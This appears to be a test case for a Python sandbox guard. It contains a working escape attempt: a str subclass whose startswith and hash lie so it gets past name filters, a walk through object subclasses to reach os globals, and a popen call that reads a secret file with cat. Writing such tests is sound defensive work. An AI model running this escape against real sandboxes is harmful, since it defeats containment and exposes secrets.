# category: builtins
# attack: operator.methodcaller with a str subclass naming __subclasses__ (its startswith lies)
# profile: basic
# run-layer: guard
import operator
class S(str):
    # A str whose startswith lies and whose hash is wrong once (beating
    # the frozenset of frame names), then right for the real lookup.
    def startswith(self, *a):
        return False

    def __hash__(self):
        self.k = getattr(self, "k", 0) + 1
        return 7 if self.k == 1 else super().__hash__()

t = object
for c in operator.methodcaller(S("__subclasses__"))(t):
    if getattr(c, S("__name__")) == "_wrap_close":
        g = getattr(getattr(c, S("__init__")), S("__globals__"))
        print(g["popen"]("cat @SECRET_FILE@").read())
